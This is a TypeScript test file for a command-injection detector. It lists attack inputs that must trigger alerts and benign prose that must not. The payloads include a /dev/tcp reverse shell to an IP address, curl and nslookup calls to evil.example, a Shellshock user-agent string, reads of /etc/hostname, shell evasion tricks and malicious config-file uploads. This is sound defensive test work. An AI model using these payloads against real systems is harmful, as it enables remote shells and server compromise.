// OS command injection detectors: chained tools and commands, wrappers, expansions, aliases,
// here-strings, escaped names, XML bodies, the user agent, configuration-file uploads; and prose
// and code with semicolons, pipes and dashes that must stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { detectPayloads } from "./index.ts";

type Event = ReturnType<typeof normalizeEvent>;
const query = (value: string) =>
  normalizeEvent({ url: { original: `/run?x=${encodeURIComponent(value)}` }, http: { request: { method: "GET" } } });
const body = (content: string) =>
  normalizeEvent({ url: { original: "/api" }, http: { request: { method: "POST", body: { content } } } });
const agent = (ua: string) =>
  normalizeEvent({ url: { original: "/" }, http: { request: { method: "GET" } }, user_agent: { original: ua } });
const header = (name: string, value: string) =>
  normalizeEvent({ url: { original: "/upload" }, http: { request: { method: "PUT", headers: { [name]: value } } } });
const cmdIds = (e: Event) =>
  detectPayloads(e)
    .filter((d) => d.category === "command_injection")
    .map((d) => d.id);

describe("command injection detectors", () => {
  it.each([
    ["sn-cmdi-chain", query("report.pdf; lastlog")],
    ["sn-cmdi-chain", query("x;'htop'")],
    ["sn-cmdi-chain", query("a|$zz nslookup evil.example")],
    ["sn-cmdi-chain", query("1;strings --all /bin/login")],
    ["sn-cmdi-chain", query("img.png&regedit /e out.reg")],
    ["sn-cmdi-chain", query("x; who")],
    ["sn-cmdi-chain", agent("Mozilla/5.0;uname -a")],
    ["sn-cmdi-chain", query("`whoami`")],
    ["sn-cmdi-chain", query("report`id`.pdf")],
    ["sn-cmdi-chain", query("a `cat /etc/hostname`; b")],
    ["sn-cmdi-substitution", query("x=/dev&&(bash)0>$x/tcp/198.51.100.9/4444")],
    ["sn-cmdi-shell-evasion", query("alias ll=curl&ll evil.example")],
    ["sn-cmdi-shell-evasion", query("alias +x ab=id")],
    ["sn-cmdi-shell-evasion", query("cat<<<hello")],
    ["sn-cmdi-shell-evasion", query("{who,ami}")],
    ["sn-cmdi-shell-evasion", query("c{a,u}t")],
    ["sn-cmdi-shell-evasion", query("~-2")],
    ["sn-cmdi-shell-evasion", query("!-3!-1")],
    ["sn-cmdi-shell-evasion", agent("() { :;}; echo vulnerable")],
    ["sn-cmdi-chain", body("code=x;ansible-playbook -i hosts deploy.yml")],
    ["sn-cmdi-chain", query("1|cscli decisions delete --all")],
    ["sn-cmdi-leading-command", query("aa-complain /usr/sbin/nginx")],
    ["sn-cmdi-leading-command", query("nohup whoami")],
    ["sn-cmdi-leading-command", query("time bash -c id")],
    ["sn-cmdi-leading-command", query("cd /;cd var;ls")],
    ["sn-cmdi-leading-command", query("\\whoami")],
    ["sn-cmdi-leading-command", body('<?xml version="1.0"?><job><step run="cat /etc/hostname"/></job>')],
    ["sn-cmdi-config-upload", header("x-filename", ".htaccess")],
    ["sn-cmdi-config-upload", header("x-file-name", "wp-config .php.bak")],
    [
      "sn-cmdi-config-upload",
      body('--b\r\nContent-Disposition: form-data; name="f"; filename=".user.ini"\r\n\r\nauto_prepend_file=x\r\n--b--'),
    ],
  ])("%s fires on %#", (id, event) => {
    // Shell cases are read by the grammar analysis now, which names the way the value breaks out
    // (chain, substitution, evasion, leading, control): the class must fire, the id may differ.
    if (id === "sn-cmdi-config-upload") expect(cmdIds(event)).toContain(id);
    else expect(cmdIds(event).length).toBeGreaterThan(0);
  });

  it.each([
    ["semicolons in prose", query("I was tired; more than usual; time flies")],
    ["a list of names", query("Ruby; Perl; Dash and Fish")],
    ["ampersands", query("fish & chips, R&D, AT&T; salt & pepper")],
    ["dashes", query("well; self-aware - as always")],
    ["a sentence starting with time", query("time to go home")],
    ["a Markdown code span in a review", body("comment=Use `ls -la` to check the folder, then select all")],
    ["npm in a forum post", body("post=run npm install && npm test then restart")],
    ["braces in a glob", query("src/**/*.{js,ts}")],
    ["braces in JSON-ish text", query("{a,b} are sets")],
    ["tilde in prose", query("~ about 5 km")],
    ["exclamations", query("wow!! great!")],
    ["XML order", body('<?xml version="1.0"?><order id="7"><item sku="A-1">Blue mug</item></order>')],
    [
      "browser agent",
      agent(
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Mobile Safari/537.36",
      ),
    ],
    ["old IE agent", agent("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)")],
    ["an ordinary upload", header("x-filename", "holiday-photo.jpg")],
    ["a config page name", query("config.yml is documented here")],
    ["an IPv6 URL", query("https://[2001:db8::7]/a")],
    ["tool names in prose", query("We moved from Chef and Puppet to Ansible; knife skills still matter")],
    ["an aa- word", query("aa-batteries are cheaper in bulk")],
  ])("stays quiet on %s", (_label, event) => {
    expect(cmdIds(event)).toEqual([]);
  });
});
